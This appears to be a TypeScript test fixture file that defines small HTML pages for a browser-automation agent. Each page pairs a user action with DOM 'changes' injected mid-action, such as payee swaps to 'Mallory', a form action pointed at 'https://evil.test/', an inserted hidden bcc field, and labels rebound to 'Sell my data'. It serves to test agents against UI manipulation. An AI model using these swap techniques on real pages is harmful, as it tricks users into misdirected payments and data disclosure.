    <div class=col style="left:400px"><h3>Trash</h3><div class=zone id=trash role=list aria-label=Column tabindex=0></div></div>
    <script>${mode === 'data' ? `act.ondragstart = e => e.dataTransfer.setData('text', 'x'); for (const z of [zone, trash]) { z.ondragover = e => e.preventDefault(); z.ondrop = () => z.append(act) }` : `let d; act.onmousedown = () => { d = 1 }; for (const z of [zone, trash]) z.addEventListener('mouseup', () => dispatchEvent(new Event('dropped')), { capture: true }); for (const z of [zone, trash]) z.onmouseup = () => { if (d) z.append(act) }`}</script>`,
  rows: [{ action: 'drag', on: '#act', onto: '#zone' }], about: ['#act', '#done'], decisive: mode === 'data' ? ['drop'] : ['dropped'],
  moments: ['between', 'at mousedown', ...(mode === 'data' ? ['at dragstart'] : [])],
  changes: {
    'heading of the column': `$('#hd').textContent = 'Trash'`, 'figure in the column': `$('#in').textContent = 'Sprint 99'`, 'text of the column': `$('#in').textContent = 'Deleted for ever'`,
    'task': `$('#who').textContent = 'Everything'`, 'figure of the task': `$('#no').textContent = 'Task 99'`,
  },
});

const drop: FreshPage = {
  name: 'drop zone', html: `${STYLE}<h2 id=h>Documents</h2><div id=act tabindex=0 role=button style="width:300px;height:100px;border:1px dashed"><span id=s>Private files</span></div><script>act.ondragover = e => e.preventDefault(); act.ondrop = e => e.preventDefault()</script>`,
  rows: [{ action: 'upload', on: '#act', files: true }], about: ['#act', '#h'], decisive: ['drop'], moments: ['between', 'at dragenter', 'at dragover'],
  changes: { 'words': `$('#s').textContent = 'Public gallery'`, 'heading': `$('#h').textContent = 'Public'`, 'figure': `$('#s').textContent = 'Private files 2'` },
};
const fileField: FreshPage = {
  name: 'file field of a button', html: `${STYLE}<form id=f action=/up><div class=up id=up><span id=s>Photo for your doctor</span> <label id=l for=in>Choose</label><input type=file id=in name=photo hidden><input type=hidden name=share value=no></div></form>`,
  rows: [{ action: 'upload', on: '#in', files: true }], about: ['#up'], own: '#in', decisive: ['input'], moments: ['between'],
  changes: { 'words': `$('#s').textContent = 'Photo for everybody'`, 'name': `$('#in').name = 'public'`, 'hidden': `$('[name=share]').value = 'yes'`, 'action': `$('#f').action = 'https://evil.test/'`, 'label': `$('#l').textContent = 'Publish'` },
};

const tri: FreshPage = {
  name: 'mixed box', html: `${STYLE}<div class=row id=row><span class=who id=who>Ada</span> <div role=checkbox aria-checked=mixed aria-label="All rights" id=act tabindex=0 style="width:20px;height:20px;border:1px solid" onclick="this.ariaChecked = this.ariaChecked === 'mixed' ? 'false' : 'true'"></div></div>`,
  rows: [check('#act')], about: ['#row'], own: '#act', decisive: ['click'], moments: ['between', 'at pointerdown', 'at focus', 'at click'], isLong: true, changes: { 'row': `$('#who').textContent = 'Mallory'` },
};
const hiddenBox: FreshPage = {
  name: 'unseen box under its label', html: `${STYLE}<style>.v{position:absolute;width:1px;height:1px;opacity:0}</style><form id=f action=/s><div class=opt id=o1><input class=v type=checkbox id=act name=news value=1><label id=l1 for=act>News</label></div><div class=opt id=o2><input class=v type=checkbox id=b2 name=sell value=1><label for=b2>Sell my data</label></div></form>`,
  rows: [check('#act')], about: ['#o1', '#l1'], own: '#act', decisive: ['click'], moments: ['between', 'at pointerdown', 'at mouseup'], isOnWindow: true,
  changes: { "label's for": `$('#l1').htmlFor = 'b2'`, 'words': `$('#l1').textContent = 'Sell my data'`, 'value': `$('#act').value = '9'; $('#l1').title = 1`, 'name': `$('#act').name = 'sell'`, 'places exchanged': `$('#f').style.cssText = 'display:flex;flex-direction:column-reverse'; $('#l1').textContent = 'Newsletter'` },
};

const doubled: FreshPage = {
  name: 'double click', html: `${STYLE}<div class=list>${['Ben', 'Ada'].map((w, n) => `<div class=row ${id(n, 'row')}><span class=who>${w}</span><span tabindex=0 role=button ${id(n, 'act')}>Open</span></div>`).join('')}</div>`,
  rows: [{ action: 'double_click', on: '#act' }], about: ['#row'], decisive: ['dblclick'], moments: [...ONE, 'at click'], isLong: true, changes: { 'row': `$('#row .who').textContent = 'Mallory'` },
};
const hovered: FreshPage = { ...doubled, name: 'hover', rows: [{ action: 'hover', on: '#act' }], decisive: ['pointerover'], moments: ['between'] };

const dates: FreshPage = {
  name: 'date in a div row', html: `${STYLE}${['Ben', 'Ada'].map((w, n) => `<div class=row ${id(n, 'row')}><div class=who>${w}</div><div><label><span class=lb>Start</span> <input type=date class=own ${id(n, 'act')}></label></div></div>`).join('')}`,
  rows: [{ action: 'choose_date', on: '#act', params: { value: '2026-12-24' } }], about: ['#row'], own: '.own', decisive: ['input'], moments: [...WRITE, 'at keydown'],
  changes: { 'row': `$('#row .who').textContent = 'Mallory'`, 'label': `$('#row .lb').textContent = 'Last day'`, 'name': `$('#act').name = 'end'` },
};
const calendar: FreshPage = {
  name: 'calendar', html: `${STYLE}<div id=row><span id=who>Leave of Ada</span> <input id=act readonly aria-haspopup=dialog aria-label="First day" placeholder="yyyy-mm-dd"></div><div id=cal role=dialog aria-label=Calendar hidden><div id=mo aria-live=off>December 2026</div><table role=grid aria-label="December 2026"><tbody id=tb></tbody></table></div>
   <script>let n = 1; for (let r = 0; r < 5; r++) { const tr = tb.insertRow(); for (let c = 0; c < 7 && n <= 31; c++, n++) { const td = tr.insertCell(); td.innerHTML = '<button aria-label="December ' + n + ', 2026">' + n + '</button>'; td.firstChild.onclick = e => { act.value = '2026-12-' + e.target.textContent.padStart(2, '0'); cal.hidden = true } } } act.onclick = () => { cal.hidden = false }</script>`,
  rows: [{ action: 'choose_date', on: '#act', params: { value: '2026-12-24' } }], about: ['#who'], own: '#act', decisive: ['click'], moments: ['between', 'at pointerdown', 'at click'], isLong: true,
  changes: { 'whose': `$('#who').textContent = 'Leave of everybody'` },
};

const places: FreshPage[] = [
  { name: 'heading in a box above', html: `${STYLE}<div class=page><div class=hd><div><h2 id=h>Workspace Blue</h2></div></div><div class=bd><div><p>Danger zone</p><button id=act>Delete workspace</button></div></div></div>`, rows: [click('#act')], about: ['.page'], decisive: ['click'], moments: ONE, changes: { heading: `$('#h').textContent = 'Workspace Red'` } },
  { name: 'title in a div above', html: `${STYLE}<div class=page><div class=hd id=h>Workspace Blue</div><div class=bd><div><p>This cannot be undone</p><button id=act>Delete</button></div></div></div>`, rows: [click('#act')], about: ['.page'], decisive: ['click'], moments: ONE, changes: { title: `$('#h').textContent = 'Workspace Red'` } },
  { name: 'details', html: `${STYLE}<details open id=row><summary id=s>Order 12</summary><p>Two phones</p><div><small>Free</small><button id=act>Cancel order</button></div></details>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { summary: `$('#s').textContent = 'Order 99'`, text: `$('#row p').textContent = 'All orders'` } },
  { name: 'popover', html: `${STYLE}<button popovertarget=po>More</button><div popover id=po style="padding:10px"><div class=t id=t>Ada Lovelace</div><div><button id=act>Block</button></div></div><script>po.showPopover()</script>`, rows: [click('#act')], about: ['#po'], decisive: ['click'], moments: ONE, changes: { who: `$('#t').textContent = 'Everybody'` } },
  { name: 'definition list', html: `${STYLE}<dl id=row><dt>Plan</dt><dd id=pl>Free</dd><dt>Seats</dt><dd id=se>3</dd><dt>Card</dt><dd id=ca>ends in 42</dd><dt></dt><dd><button id=act>Renew</button></dd></dl>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { plan: `$('#pl').textContent = 'Enterprise'`, seats: `$('#se').textContent = '300'`, card: `$('#ca').textContent = 'ends in 99'`, exchanged: `[$('#pl').textContent, $('#ca').textContent] = [$('#ca').textContent, $('#pl').textContent]` } },
  { name: 'tabs', html: `${STYLE}<div role=tablist><button role=tab aria-selected=true id=t1>Test</button><button role=tab aria-selected=false id=t2>Production</button></div><div role=tabpanel aria-labelledby=t1 id=row><p>Reset the database</p><button id=act>Reset</button></div>`, rows: [click('#act')], about: ['#row', '[role=tablist]', '#t1', '#t2'], decisive: ['click'], moments: ONE, changes: { 'name of the tab': `$('#t1').textContent = 'Production'`, 'panel of the other tab': `$('#row').setAttribute('aria-labelledby', 't2'); $('#row p').textContent = 'Reset the database!'` } },
  { name: 'environment in a select', html: `${STYLE}<div id=row class=page><div class=row><select id=env aria-label=Environment><option>staging<option>production</select></div><div class=row><span>Version 12</span><button id=act>Deploy</button></div></div>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { environment: `$('#env').selectedIndex = 1`, version: `$('#row span').textContent = 'Version 13'` } },
  { name: 'environment in radio buttons', html: `${STYLE}<div id=row class=page><label><input type=radio name=e checked value=s> staging</label><label><input type=radio name=e id=p value=p> production</label><button id=act>Deploy</button></div>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { environment: `$('#p').checked = true` } },
  { name: 'aria-pressed choice', html: `${STYLE}<div id=row class=page><button aria-pressed=true class=c>One month</button><button aria-pressed=false class=c id=y>Ten years</button><button id=act>Subscribe</button></div><style>[aria-pressed=true]::before{content:"chosen "}</style>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { choice: `$('.c').ariaPressed = 'false'; $('#y').ariaPressed = 'true'` } },
  { name: 'row in a sticky column', html: `${STYLE}<div id=row style="display:flex"><div class=left><div class=n style="height:30px">Ben</div><div class=n style="height:30px">Ada</div></div><div class=right><div style="height:30px"><button>Pay</button></div><div style="height:30px"><button id=act>Pay</button></div></div></div>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { name: `$$('.n')[1].textContent = 'Mallory'`, exchanged: `$('.left').append($('.n'))`, 'exchanged by css': `$('.left').style.cssText = 'display:flex;flex-direction:column-reverse'` } },
  { name: 'two captions', html: `${STYLE}<figure id=row><img src="/a.png" alt="Cat" id=im width=50 height=50><figcaption id=c>Cat picture</figcaption><button id=act>Publish</button></figure>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { caption: `$('#c').textContent = 'Passport'`, alt: `$('#im').alt = 'Passport'`, src: `$('#im').src = '/passport.png'` } },
];

const queue: FreshPage = {
  name: 'queue that goes on', html: `${STYLE}<div class=card id=row><span id=no>#1041</span> <div><button id=act>Refund</button></div></div><script>window.n = 1041; window.t = setInterval(() => { no.textContent = '#' + ++n }, 250); setTimeout(() => clearInterval(t), 1400)</script>`,
  rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ['between', 'at pointerdown'],
  meanwhile: page => page.waitForTimeout(1800), changes: { 'the next number': `$('#no').textContent = '#' + ++n`, 'another': `$('#no').textContent = '#9999'` },
};
const clicked: FreshPage = {
  ...{
    name: 'form after the person clicked elsewhere', html: `${STYLE}<form id=f action=/pay><label>Payee <input id=payee name=payee readonly value=Ada></label><label>Amount <input id=amount name=amount value=10></label><select id=cur name=cur><option>EUR<option>BTC</select><input type=checkbox id=x name=x aria-label=Extra><input type=hidden id=h name=h value=1><button id=act>Pay</button></form><p style="margin-top:200px" id=blank>Some text to click on</p>`,
    rows: [click('#act')], about: ['#f'], decisive: ['click'],
  },
  moments: ['between'], meanwhile: page => page.mouse.click(60, 280),
  changes: { 'read-only payee': `$('#payee').value = 'Mallory'`, 'amount': `$('#amount').value = '9999'`, 'currency': `$('#cur').selectedIndex = 1`, 'box': `$('#x').checked = true`, 'hidden': `$('#h').value = 9`, 'added field': `$('#f').insertAdjacentHTML('beforeend', '<input name=bcc value=mallory>')` },
};
const counted: FreshPage[] = [
  ['Approve request 17', 'Approve request 18'], ['Delete row 5', 'Delete row 4'], ['Refund order 1043', 'Refund order 1044'], ['Merge #120', 'Merge #121'], ['Sell 3 shares', 'Sell 2 shares'],
].map(([before = '', now = '']): FreshPage => ({ name: `number in a name: ${before}`, html: `${STYLE}<button id=act>${before}</button>`, rows: [click('#act')], about: ['#act'], decisive: ['click'], moments: ['between', 'at pointerdown'], changes: { 'another number': `$('#act').textContent = '${now}'` } }));

const divButtonInForm: FreshPage = {
  name: 'div button in a form', html: `${STYLE}<form id=f action=/pay method=post><input type=hidden id=to name=to value=ada><label>Amount <input id=amount name=amount value=10></label><label>Note <input id=note name=note></label><div role=button tabindex=0 id=act>Pay</div></form><script>act.addEventListener('click', () => f.requestSubmit())</script>`,
  rows: [click('#act')], about: ['#f'], own: '#note', decisive: ['click'], moments: ONE,
  changes: { 'hidden': `$('#to').value = 'mallory'`, 'amount': `$('#amount').value = '999'`, 'action': `$('#f').action = '/evil'`, 'method': `$('#f').method = 'get'`, 'added hidden': `$('#f').insertAdjacentHTML('beforeend', '<input type=hidden name=cc value=x>')` },
};
const enter: FreshPage = {
  name: 'Enter in a field, default button', html: `${STYLE}<h2 id=h>Invite to Blue</h2><form id=f action=/invite method=post><label>Mail <input id=note name=mail></label><label>Role <select id=role name=role><option>guest<option>owner</select></label><button id=b name=do value=invite>Invite</button></form>`,
  rows: [fill('#note', 'a@x.test'), press('#note', 'Enter')], about: ['#f', '#h'], own: '#note', decisive: ['click'], moments: ['between', ...NEXT, 'row 1 change +700', 'at keydown'],
  changes: { 'role': `$('#role').selectedIndex = 1`, 'button before': `$('#f').insertAdjacentHTML('afterbegin', '<button name=do value=delete>Delete</button>')`, 'formaction': `$('#b').setAttribute('formaction', '/delete')`, 'value of the button': `$('#b').value = 'delete'`, 'words of the button': `$('#b').textContent = 'Delete'`, 'heading': `$('#h').textContent = 'Invite to Red'`, 'button disabled, another enabled': `$('#b').disabled = true; $('#f').insertAdjacentHTML('beforeend', '<button name=do value=x>X</button>')` },
};
const times: FreshPage = {
  name: 'times and ages in a row', html: `${STYLE}<table><tr id=row><td class=who id=slot>Slot 10:30</td><td id=age>5 days ago</td><td id=dur>5 min ago</td><td><button id=act>Book</button></td></tr><tr><td>Slot 11:00<td><td><td><button>Book</button></tr></table>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE,
  changes: { 'a minute later': `$('#slot').textContent = 'Slot 10:31'`, 'a day more': `$('#age').textContent = '6 days ago'`, 'an hour later': `$('#slot').textContent = 'Slot 11:30'` },
};


const more: FreshPage[] = [
  { name: 'flat grid, the button itself', html: divRows.find(({ name }) => name === 'flat css grid')?.html ?? '', rows: [click('#act')], about: ['#g'], decisive: ['click'], moments: ONE,
    changes: { 'button moved to another row': `$('#g').append($('#act')); $('#g').children[4].after($('#g').children[7])`, 'buttons exchanged by order': `$$('button').forEach((e, i) => { e.style.gridColumn = 3; e.style.gridRow = [1, 3, 2][i] }); $$('.n').forEach((e, i) => { e.style.gridColumn = 1; e.style.gridRow = i + 1; e.nextElementSibling.style.cssText = 'grid-column:2;grid-row:' + (i + 1) })` } },
  { name: 'group row of a table', html: `${STYLE}<table id=row><tr><th colspan=2 id=h>Customer Ada</th></tr><tr><td>Invoice</td><td><button id=act>Cancel</button></td></tr><tr><th colspan=2>Customer Ben</th></tr><tr><td>Invoice</td><td><button>Cancel</button></td></tr></table>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { customer: `$('#h').textContent = 'Customer Mallory'`, 'customers exchanged': `const [a, b] = $$('th'); [a.textContent, b.textContent] = [b.textContent, a.textContent]`, 'row moved': `$('#act').closest('tbody').append($('#act').closest('tr'))` } },
  { name: 'accordion', html: `${STYLE}<div class=acc id=row><h3><button aria-expanded=true id=h>Order 12 of Ada</button></h3><div class=panel><span>Two phones</span><button id=act>Cancel</button></div></div>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { head: `$('#h').textContent = 'Order 99 of Ben'`, text: `$('#row span').textContent = 'All phones'` } },
  { name: 'bulk action', html: `${STYLE}<div id=row><div class=bar><span id=n>1 selected</span> <button id=act>Delete selected</button></div>${['a', 'b', 'c'].map((f, n) => `<div class=row><input type=checkbox class=x ${n === 1 ? 'checked' : ''} aria-label="${f}.txt"><span class=f>${f}.txt</span></div>`).join('')}</div>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { 'another box': `$$('.x')[1].checked = false; $$('.x')[2].checked = true`, 'all boxes': `$$('.x').forEach(e => { e.checked = true })`, 'name of the chosen one': `$$('.f')[1].textContent = 'database.sql'` } },
  { name: 'bulk action after a tick', html: `${STYLE}<div id=row><div class=bar><span id=n>0 selected</span> <button id=act>Delete selected</button></div>${['a', 'b', 'c'].map((f, n) => `<div class=row><label><input type=checkbox class=x ${n === 1 ? 'id=note' : ''}> <span class=f>${f}.txt</span></label></div>`).join('')}</div>`, rows: [check('#note'), click('#act')], about: ['#row'], own: '#note, #n', decisive: ['click'], moments: ['row 1 click', 'row 1 change', 'row 1 change +50', 'row 1 change +200'], changes: { 'another box as well': `$$('.x')[2].checked = true`, 'name of the chosen one': `$$('.f')[1].textContent = 'database.sql'` } },
  { name: 'custom radio', html: `${STYLE}<div id=row><div role=radiogroup aria-label=Plan><div role=radio aria-checked=true class=r>Free</div><div role=radio aria-checked=false class=r>Gold</div></div><div><button id=act>Continue</button></div></div><style>[aria-checked=true]::before{content:"chosen "}</style>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { choice: `const [a, b] = $$('.r'); a.ariaChecked = 'false'; b.ariaChecked = 'true'` } },
  { name: 'custom select beside', html: `${STYLE}<div id=row><div class=row><button aria-haspopup=listbox id=c>From: Savings</button></div><div class=row><span>Move 20</span><button id=act>Move</button></div></div>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { choice: `$('#c').textContent = 'From: Pension'`, amount: `$('#row span').textContent = 'Move 2000'` } },
  { name: 'form with a type=button', html: `${STYLE}<form id=row><label>To <input name=to id=to value=Ada></label><label>Amount <input name=amount id=am value=10></label><select id=cur name=cur><option>EUR<option>BTC</select><textarea name=m id=m>Hi</textarea><input type=hidden name=h id=h value=1><label>Note <input id=note></label><p id=p>Pay Ada</p><button type=button id=act>Pay</button></form>`, rows: [fill('#note'), click('#act')], about: ['#row'], own: '#note', decisive: ['click'], moments: ['between', 'at pointerdown', 'row 1 input', 'row 1 input +100'], changes: { to: `$('#to').value = 'Mallory'`, amount: `$('#am').value = '999'`, currency: `$('#cur').selectedIndex = 1`, text: `$('#m').value = 'x'`, hidden: `$('#h').value = 'x'`, words: `$('#p').textContent = 'Pay Mallory'` } },
  { name: 'click after a click', html: `${STYLE}<div role=dialog id=row aria-label=Share><p id=p>Share with Ada</p><button id=note aria-pressed=false onclick="this.ariaPressed = true">Can edit</button><button id=act>Share</button></div>`, rows: [click('#note'), click('#act')], about: ['#p'], decisive: ['click'], moments: ['row 1 click', 'row 1 mousedown', 'row 1 click +60', 'row 1 click +300'], changes: { who: `$('#p').textContent = 'Share with everybody'`, 'more words': `$('#p').insertAdjacentHTML('beforeend', ' and Ben')`, 'a line more': `$('#p').insertAdjacentHTML('beforeend', '<br><b>and the whole company</b>')` } },
  { name: 'space on a box in a div row', html: `${STYLE}${['Ben', 'Ada'].map((w, n) => `<div class=row ${id(n, 'row')}><div class=who>${w}</div><div><input type=checkbox ${id(n, 'act')} aria-label=Admin></div></div>`).join('')}`, rows: [press('#act', 'Space')], about: ['#row'], own: '#act', decisive: ['click'], moments: ['between', 'at focus', 'at keydown', 'at keyup'], changes: { name: `$('#row .who').textContent = 'Mallory'`, 'name of the box': `$('#act').setAttribute('aria-label', 'Owner')` } },
  { name: 'box in a div row', html: `${STYLE}${['Ben', 'Ada'].map((w, n) => `<div class=row ${id(n, 'row')}><div class=who>${w}</div><div><div><input type=checkbox ${id(n, 'act')} aria-label=Admin> <span>may do all</span></div></div></div>`).join('')}`, rows: [check('#act')], about: ['#row'], own: '#act', decisive: ['click'], moments: ONE, changes: { name: `$('#row .who').textContent = 'Mallory'`, words: `$('#row span').textContent = 'may not log in'` } },
  { name: 'Delete on a list row', html: `${STYLE}<h2 id=h>Inbox of Ada</h2><ul role=listbox aria-label=Mails tabindex=0><li role=option id=act tabindex=0 aria-selected=true><b class=who>Offer</b> from Ben</li><li role=option>Bill from Cy</li></ul>`, rows: [press('#act', 'Delete')], about: ['#act', '#h'], decisive: ['keydown'], moments: KEY, changes: { words: `$('#act .who').textContent = 'Contract'`, heading: `$('#h').textContent = 'Inbox of all'` } },
  { name: 'row that is the target', html: `${STYLE}<div class=list><div class=item tabindex=0 role=button><b>Ben</b></div><div class=item id=act tabindex=0 role=button><span class=who>Ada</span> <i id=no>12</i><img src="/a.png" alt="" width=10 height=10></div></div>`, rows: [click('#act')], about: ['#act'], decisive: ['click'], moments: [...ONE, 'at mouseup'], changes: { name: `$('.who').textContent = 'Mallory'`, figure: `$('#no').textContent = '13'`, 'name by closed root': `$('.who').attachShadow({ mode: 'closed' }).innerHTML = 'Eve'`, 'figure by closed root': `const s = document.createElement('span'); s.textContent = '12'; $('#no').replaceChildren(s); s.attachShadow({ mode: 'closed' }).innerHTML = '99'`, 'hidden by opacity': `$('.who').style.opacity = 0; $('.who').insertAdjacentHTML('afterend', '<b style="position:absolute">Eve</b>')` } },
  { name: 'dialog element with a field', html: `${STYLE}<dialog open id=row><h2>Send</h2><p>To <input id=to readonly value=Ada> <output id=o>20</output></p><select id=s><option>now<option>each month</select><button id=act>Send</button></dialog>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { 'read-only field': `$('#to').value = 'Mallory'`, output: `$('#o').value = '2000'`, select: `$('#s').selectedIndex = 1` } },
  { name: 'link in a row to nowhere', html: `${STYLE}<div class=t>${['Ben', 'Ada'].map((w, n) => `<div class=row ${id(n, 'row')}><span class=who>${w}</span><span class=mid>member</span><a href="javascript:void(0)" ${id(n, 'act')} role=button>Ban</a></div>`).join('')}</div>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { name: `$('#row .who').textContent = 'Mallory'` } },
  { name: 'calendar of appointments', html: `${STYLE}<div class=day id=row><div class=hd id=h>Monday 7 December</div><div class=ev><span class=tm id=tm>10:00</span> <span id=ti>Dentist</span><button id=act>Cancel</button></div></div>`, rows: [click('#act')], about: ['#row'], decisive: ['click'], moments: ONE, changes: { day: `$('#h').textContent = 'Tuesday 8 December'`, title: `$('#ti').textContent = 'Wedding'`, time: `$('#tm').textContent = '15:00'`, 'time by a minute': `$('#tm').textContent = '10:01'` } },
  { name: 'fill in a table with column heads', html: `${STYLE}<table id=row><thead><tr><th>Name<th id=c1>Bonus<th id=c2>Salary</thead><tbody><tr><td class=who>Ada<td><input class=own id=act><td><input></tr></table>`, rows: [fill('#act', '100')], about: ['#row'], own: '.own', decisive: ['input'], moments: WRITE, changes: { column: `$('#c1').textContent = 'Salary per day'`, exchanged: `[$('#c1').textContent, $('#c2').textContent] = ['Salary', 'Bonus']`, row: `$('.who').textContent = 'Mallory'` } },
];

export const pages: FreshPage[] = [
  bankSpa([click('#send')], ONE, 'click'), bankSpa([fill('#note'), click('#send')], NEXT, 'fill and click'), bankForm, amountForm,
  ...divRows, textSwaps, textSwapsNext, ...modals, cards, describedDialog, countedDialog, lengthDialog,
  chat([press('#note', 'Enter')], 'Enter', KEY), chat([fill('#note', 'my salary is low'), press('#note', 'Enter')], 'fill and Enter', NEXT), chatMark,
  mail([click('#send')], 'click', ONE, ['click']), mail([press('#body', 'Control+Enter')], 'Control+Enter', KEY, ['keydown']), mail([fill('#body', 'Yes'), click('#send')], 'fill and click', ['row 1 input', 'row 1 input +300'], ['click']),
  matrix, matrixGrid, marks, icons, icons2, icons3, imageButton, shadowCards, lateRoot, lateRootOpen,
  cart([click('#act')], 'click', ONE), cart([fill('#note', 'SAVE'), click('#act')], 'fill and click', NEXT), stepper,
  fields([fill('#act', '100')], 'fill in a div row', WRITE, FIELD_ROWS, FIELD_CHANGES), fields([type('#act', '100')], 'type in a div row', [...WRITE, 'at keydown', 'at beforeinput'], FIELD_ROWS, FIELD_CHANGES, true),
  fields([fill('#act')], 'fill a lone field', WRITE, lone(''), LONE_CHANGES), fields([type('#act')], 'type in a lone field', ['at keydown', 'at input'], lone(''), LONE_CHANGES, true),
  fields([fill('#act')], 'fill an editor', [...WRITE, 'at beforeinput'], editorHtml, { 'heading': `$('#who').textContent = 'Public statement'`, 'label': `$('#act').setAttribute('aria-label', 'Password'); $('#who').title = 'x'` }, true),
  fields([type('#act')], 'type in an editor', [...WRITE, 'at beforeinput'], editorHtml, { 'heading': `$('#who').textContent = 'Public statement'` }, true),
  roleSelect, nativeSelect, kanban('mouse'), kanban('data'), drop, fileField, tri, hiddenBox, doubled, hovered, dates, calendar,
  ...places, queue, clicked, ...counted, divButtonInForm, enter, times,
  ...more,
];
